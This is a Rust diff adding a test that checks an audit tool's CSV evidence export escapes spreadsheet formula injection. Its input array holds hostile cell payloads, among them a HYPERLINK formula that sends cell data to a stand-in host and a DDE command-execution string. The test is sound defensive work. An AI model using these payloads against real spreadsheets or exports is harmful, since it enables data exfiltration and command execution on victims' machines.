@@ -275,3 +275,87 @@ fn issue14_oversight_receives_nothing_the_roster_rebuilds() {
     assert_eq!(s, 200);
     assert!(header(&h, "content-type").is_some());
 }
+
+/// Appends copies of a login's first lookup with these fields changed; returns the login.
+fn inject_events(events: &Path, changes: &[(&str, &str)]) -> String {
+    let text = std::fs::read_to_string(events).unwrap();
+    let first: Value = text
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|e| e["action"] == "query")
+        .expect("a lookup");
+    let mut ev = first.clone();
+    ev["id"] = Value::from("ev-injected-1");
+    for (k, v) in changes {
+        ev[*k] = Value::from(*v);
+    }
+    let mut f = std::fs::OpenOptions::new()
+        .append(true)
+        .open(events)
+        .unwrap();
+    use std::io::Write;
+    writeln!(f, "{ev}").unwrap();
+    first["user"].as_str().unwrap().to_string()
+}
+
+#[test]
+fn issue14_evidence_csv_cells_cannot_run_as_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let w = dir.path();
+    gen_world(w, 9, 3);
+    let typed = [
+        (
+            "query_text",
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+        ),
+        ("case_id", "+cmd|' /C calc'!A0"),
+        ("purpose", "-2+3"),
+        ("subject_name", "@SUM(1+1)"),
+        ("client", "\t=1+1"),
+        ("subject_address", "'quoted"),
+    ];
+    let login0 = inject_events(&w.join("events.jsonl"), &typed);
+    let db = w.join("alerts.db");
+    custodes()
+        .args(["audit", "--quiet", "--refs"])
+        .arg(w.join("refs"))
+        .arg("--db")
+        .arg(&db)
+        .arg(w.join("events.jsonl"))
+        .assert()
+        .success();
+    add_user(&db, "investigator", "ia_nowak");
+    let server = start_server(&db);
+    let a = server.addr.as_str();
+    let (cookie, _) = login(a, "ia_nowak", "ia_nowak has a long password");
+    let c = [("Cookie", cookie.as_str())];
+    let (s, h, csv) = http(a, "GET", &format!("/users/{login0}/export.csv"), &c, "");
+    assert_eq!(s, 200, "{csv}");
+    let digest = hex(&Sha256::digest(csv.as_bytes()));
+    assert_eq!(header(&h, "x-content-sha256"), Some(digest.as_str()));
+    let mut r = csv::Reader::from_reader(csv.as_bytes());
+    let headers = r.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    let row = rows
+        .iter()
+        .find(|r| r.get(0) == Some("ev-injected-1"))
+        .expect("the injected event is in the packet");
+    for rec in &rows {
+        for cell in rec.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula cell: {cell:?}"
+            );
+        }
+    }
+    for (k, v) in typed {
+        let i = headers.iter().position(|h| h == k).unwrap();
+        // The reader trims what surrounds a field; the rest arrives as typed, quoted.
+        assert_eq!(row.get(i), Some(format!("'{}", v.trim()).as_str()), "{k}");
+    }
+    // The HTML says how cells were escaped and names the digest of these bytes.
+    let (s, _, html) = http(a, "GET", &format!("/users/{login0}/export.html"), &c, "");
+    assert_eq!(s, 200);
+    assert!(html.contains("CSV escaping") && html.contains("single quote"));
+    assert!(html.contains(&digest), "the HTML states the CSV's digest");
+}
